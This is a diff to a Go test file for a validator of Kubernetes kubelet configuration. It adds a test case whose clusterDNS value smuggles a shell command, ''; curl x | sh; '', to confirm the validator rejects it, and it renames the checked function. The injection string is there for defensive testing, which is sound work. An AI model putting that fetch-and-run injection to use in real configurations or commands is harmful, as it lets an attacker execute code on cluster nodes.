@@ -50,6 +50,7 @@ func TestCheckKubelet(t *testing.T) {
 		"a threshold that is no number":      {`{"evictionHard":{"memory.available":"NaN%"}}`, []string{"NaN%"}},
 		"odd signals everywhere":             {`{"evictionSoft":{"a":"1"},"evictionSoftGracePeriod":{"a":"1s"},"evictionMinimumReclaim":{"a":"1"}}`, []string{"evictionSoft", "evictionMinimumReclaim", "evictionSoftGracePeriod"}},
 		"a negative grace period":            {`{"evictionSoft":{"memory.available":"5%"},"evictionSoftGracePeriod":{"memory.available":"-1m"}}`, []string{"-1m"}},
+		"DNS that is no address":             {`{"clusterDNS":["10.0.0.10","10.0.0.10'; curl x | sh; '"]}`, []string{"clusterDNS"}},
 		"DNS that is no list":                {`{"clusterDNS":"10.0.0.10"}`, []string{"clusterDNS", "clusterDNS"}},
 		"a number of pods that is none":      {`{"maxPods":true}`, []string{"maxPods", "maxPods"}},
 		"more pods than fit a number":        {`{"maxPods":2147483648}`, []string{"maxPods", "2147483648"}},
@@ -57,7 +58,7 @@ func TestCheckKubelet(t *testing.T) {
 		"negative numbers":                   {`{"podsPerCore":-1,"maxPods":-2,"evictionMaxPodGracePeriod":-3}`, []string{"podsPerCore", "evictionMaxPodGracePeriod", "maxPods"}},
 	} {
 		t.Run(name, func(t *testing.T) {
-			got := checkKubelet(configuration(t, tc.text))
+			got := CheckKubelet(configuration(t, tc.text))
 			if len(got) != len(tc.want) {
 				t.Fatalf("messages = %q, want %d", got, len(tc.want))
 			}
@@ -68,7 +69,7 @@ func TestCheckKubelet(t *testing.T) {
 			}
 		})
 	}
-	if got := checkKubelet(nil); got != nil {
+	if got := CheckKubelet(nil); got != nil {
 		t.Errorf("no configuration is wrong: %q", got)
 	}
 }
